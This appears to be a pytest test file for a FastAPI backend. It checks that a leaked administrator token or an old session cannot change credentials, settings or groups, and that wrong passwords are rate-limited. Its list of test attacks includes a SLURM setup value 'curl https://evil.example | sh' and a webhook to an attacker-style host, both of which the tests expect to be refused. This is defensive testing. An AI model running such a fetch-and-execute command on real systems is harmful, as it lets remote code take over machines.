"""What changes a credential needs a person who has just proved who they are: never a token, nor an old session."""

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import func, select, update

from arcadia_backend.accounts import sign_in
from arcadia_backend.accounts.passwords import MAX_PER_ACCOUNT, PasswordLimit
from arcadia_backend.database import tables
from arcadia_backend.database.columns import utc_now
from arcadia_backend.database.engine import Database
from tests.accounts.signing_in import API, PASSWORD, create_first, invite, join, read, stranger
from tests.factories import Response

AGAIN = f"{API}/session/again"
CHANGED = (
    tables.Person, tables.PersonGroup, tables.GroupMember, tables.OneTimeLink, tables.AccessToken, tables.AlertChannel,
    tables.ExecutorSettings, tables.ProjectRole,
)  # fmt: skip
SLURM = {"partition": "gpu", "backend_url": "https://arcadia.example.org", "setup": "curl https://evil.example | sh"}
EVE = {"name": "Eve", "email": "eve@example.org"}
# What somebody would send with a leaked token of an administrator. {bo} and {group} are ids.
ATTACKS: list[tuple[str, str, Any]] = [
    ("POST", "people", {"people": [EVE], "is_administrator": True}),
    ("POST", "people/1/link", None),
    ("PATCH", "people/1", {"email": "eve@example.org"}),
    ("PATCH", "people/{bo}", {"is_administrator": True}),
    ("PATCH", "people/{bo}", {"disabled": True}),
    ("POST", "groups", {"name": "evil", "members": [1]}),
    ("PATCH", "groups/{group}", {"members": [1, "{bo}"]}),
    ("DELETE", "groups/{group}", None),
    ("POST", "projects/1/invitations", {"people": [EVE], "role": "editor"}),
    ("POST", "tokens", {"name": "more", "scopes": ["read", "write", "worker"], "days": 365}),
    ("POST", "account/password", {"old_password": PASSWORD, "new_password": "another long password"}),
    ("POST", "account/device/confirm", {"code": "BCDF-GHJK", "scopes": ["read", "write"]}),
    ("PUT", "executors/slurm", SLURM),
    ("POST", "executors/slurm/check?run_job=true", SLURM),
    ("POST", "alert-channels", {"name": "Mine", "url": "https://evil.example/hook"}),
    ("PATCH", "alert-channels/1", {"name": "Mine"}),
]


@pytest.fixture(autouse=True)
def _fresh_limit(app: FastAPI) -> None:
    """Forget the wrong passwords of other tests, which share the application."""
    app.state.password_limit = PasswordLimit()


@pytest.fixture
def ids(client: TestClient) -> dict[str, int]:
    """Add an administrator, who signs in, a person and a group."""
    create_first(client)
    bo = invite(client, "Bo")["person"]["id"]
    group = read(client.post(f"{API}/groups", json={"name": "Lab", "members": [bo]}), 201)["id"]
    return {"bo": bo, "group": group}


def age(database: Database, minutes: float | None = None) -> None:
    """Let all sessions have proved their person some minutes ago, or before the server kept that."""
    proved_at = None if minutes is None else utc_now() - timedelta(minutes=minutes)
    with database.write() as session:
        session.execute(update(tables.SignInSession).values(proved_at=proved_at))


def attack(send: Callable[..., Response], ids: dict[str, int], attack: tuple[str, str, Any]) -> Response:
    """Send a request that changes a credential."""
    method, path, body = attack
    if isinstance(body, dict):
        body = {
            key: [ids["bo"] if each == "{bo}" else each for each in value] if isinstance(value, list) else value
            for key, value in body.items()
        }
    return send(method, f"{API}/{path.format(**ids)}", json=body)


def rows(database: Database) -> list[int | None]:
    """Return the number of rows of the tables that matter."""
    with database.read() as session:
        return [session.scalar(select(func.count()).select_from(table)) for table in CHANGED]


def kind_of(response: Response) -> str:
    """Return the status and the kind of a problem."""
    return f"{response.status_code} {response.json()['type'].rpartition('/')[2]}"


def test_a_leaked_token_of_an_administrator_changes_no_credential(
    client: TestClient, database: Database, ids: dict[str, int]
) -> None:
    body = {"name": "leaked", "scopes": ["read", "write", "log", "worker"]}
    secret = read(client.post(f"{API}/tokens", json=body), 201)["secret"]
    thief = stranger(client)
    thief.headers["Authorization"] = f"Bearer {secret}"
    before = rows(database)
    for each in ATTACKS:
        assert kind_of(attack(thief.request, ids, each)) == "403 missing-right", each
    assert thief.post(AGAIN, json={"password": PASSWORD}).status_code == 401
    assert rows(database) == before
    assert read(client.get(f"{API}/people/1"))["email"] == "ana@example.org"


@pytest.mark.parametrize("minutes", [15, None])
def test_an_old_session_changes_no_credential(
    client: TestClient, database: Database, ids: dict[str, int], minutes: float | None
) -> None:
    age(database, minutes)
    before = rows(database)
    for each in ATTACKS:
        refused = attack(client.request, ids, each)
        assert kind_of(refused) == "403 sign-in-again", each
        assert "/session/again" in refused.json()["detail"]
    assert rows(database) == before
    # Everything else works, also what takes access away.
    account = read(client.get(f"{API}/account"))
    assert (account["fresh_until"], account["proofs"]) == (None, ["password"])
    assert read(client.get(f"{API}/people"))[0]["name"] == "Ana"
    assert client.patch(f"{API}/account", json={"name": "Anna"}).status_code == 200
    assert client.delete(f"{API}/tokens").status_code == 204


def test_the_password_again_makes_a_session_fresh(client: TestClient, database: Database, ids: dict[str, int]) -> None:
    other = stranger(client)
    read(other.post(f"{API}/session", json={"email": "ana@example.org", "password": PASSWORD}))
    age(database, 60)
    wrong = client.post(AGAIN, json={"password": "wrong"})
    assert (kind_of(wrong), wrong.json()["errors"][0]["field"]) == ("422 invalid", "password")
    assert kind_of(client.post(f"{API}/people/{ids['bo']}/link")) == "403 sign-in-again"
    assert client.post(AGAIN, json={"password": PASSWORD}).status_code == 204
    assert read(client.get(f"{API}/account"))["fresh_until"] is not None
    read(client.post(f"{API}/people/{ids['bo']}/link"))
    # Another browser of the same person is as old as before.
    assert kind_of(other.post(f"{API}/people/{ids['bo']}/link")) == "403 sign-in-again"
    with database.read() as session:
        entries = session.scalars(select(tables.AuditEntry).where(tables.AuditEntry.action == "sign in again")).all()
    assert [entry.name for entry in entries] == ["Ana"]


@pytest.mark.usefixtures("ids")
def test_wrong_passwords_are_limited(client: TestClient) -> None:
    statuses = [client.post(AGAIN, json={"password": f"guess {number}"}).status_code for number in range(11)]
    assert statuses == [422] * MAX_PER_ACCOUNT + [429]
    assert stranger(client).post(AGAIN, json={"password": PASSWORD}).status_code == 401


@pytest.mark.usefixtures("ids")
def test_people_prove_who_they_are_by_a_link_and_by_a_sign_in(client: TestClient) -> None:
    bo = join(client, "Cy")
    read(bo.post(f"{API}/tokens", json={"name": "a", "scopes": ["read"]}), 201)
    other = stranger(client)
    read(other.post(f"{API}/session", json={"email": "cy@example.org", "password": PASSWORD}))
    read(other.post(f"{API}/tokens", json={"name": "b", "scopes": ["read"]}), 201)


def test_the_missing_role_is_named_before_the_old_session(client: TestClient, database: Database) -> None:
    create_first(client)
    bo = join(client, "Bo", project="Main")
    age(database)
    body = {"people": [EVE], "role": "viewer"}
    assert kind_of(bo.post(f"{API}/people/1/link")) == "403 missing-right"
    assert kind_of(bo.post(f"{API}/projects/1/invitations", json=body)) == "403 missing-right"


def test_a_token_that_reads_lists_people_and_groups_for_administrators(client: TestClient, ids: dict[str, int]) -> None:
    cy = join(client, "Cy", project="Main", role="administrator")
    for browser, status in ((client, 200), (cy, 403)):
        body = {"name": "reader", "scopes": ["read"]}
        secret = read(browser.post(f"{API}/tokens", json=body), 201)["secret"]
        headers = {"Authorization": f"Bearer {secret}"}
        for path in ("people", f"people/{ids['bo']}", "groups", "executors/slurm", "alert-channels"):
            assert stranger(client).get(f"{API}/{path}", headers=headers).status_code == status, path


@pytest.mark.usefixtures("ids")
def test_a_token_still_changes_roles_of_a_project_and_ends_sessions(client: TestClient) -> None:
    cy = join(client, "Cy", project="Main", role="administrator")
    secret = read(cy.post(f"{API}/tokens", json={"name": "a", "scopes": ["read", "write"]}), 201)["secret"]
    headers = {"Authorization": f"Bearer {secret}"}
    body = {"email": "bo@example.org", "role": "viewer"}
    script = stranger(client)
    read(script.post(f"{API}/projects/1/members", json=body, headers=headers))
    assert script.delete(f"{API}/people/1/sessions", headers=headers).status_code == 403
    secret = read(client.post(f"{API}/tokens", json={"name": "a", "scopes": ["write"]}), 201)["secret"]
    headers = {"Authorization": f"Bearer {secret}"}
    person = read(cy.get(f"{API}/account"))["person"]["id"]
    assert script.delete(f"{API}/people/{person}/sessions", headers=headers).status_code == 204
    assert cy.get(f"{API}/account").status_code == 401


def test_an_open_installation_has_no_sessions_to_prove(client: TestClient) -> None:
    body = {"name": "Mine", "url": "http://127.0.0.1:9/hook"}
    client.post(f"{API}/alert-channels", json=body)
    assert read(client.get(f"{API}/account"))["proofs"] == []
    assert client.post(AGAIN, json={"password": PASSWORD}).status_code == 401
    answer = client.post(f"{API}/projects/1/invitations", json={"people": [EVE], "role": "viewer"})
    assert kind_of(answer) == "409 conflict"
    assert read(client.get(f"{API}/session")) == {"required": False, "signed_in": True}


def test_fresh_means_a_quarter_of_an_hour() -> None:
    assert timedelta(minutes=15) == sign_in.FRESH_TIME
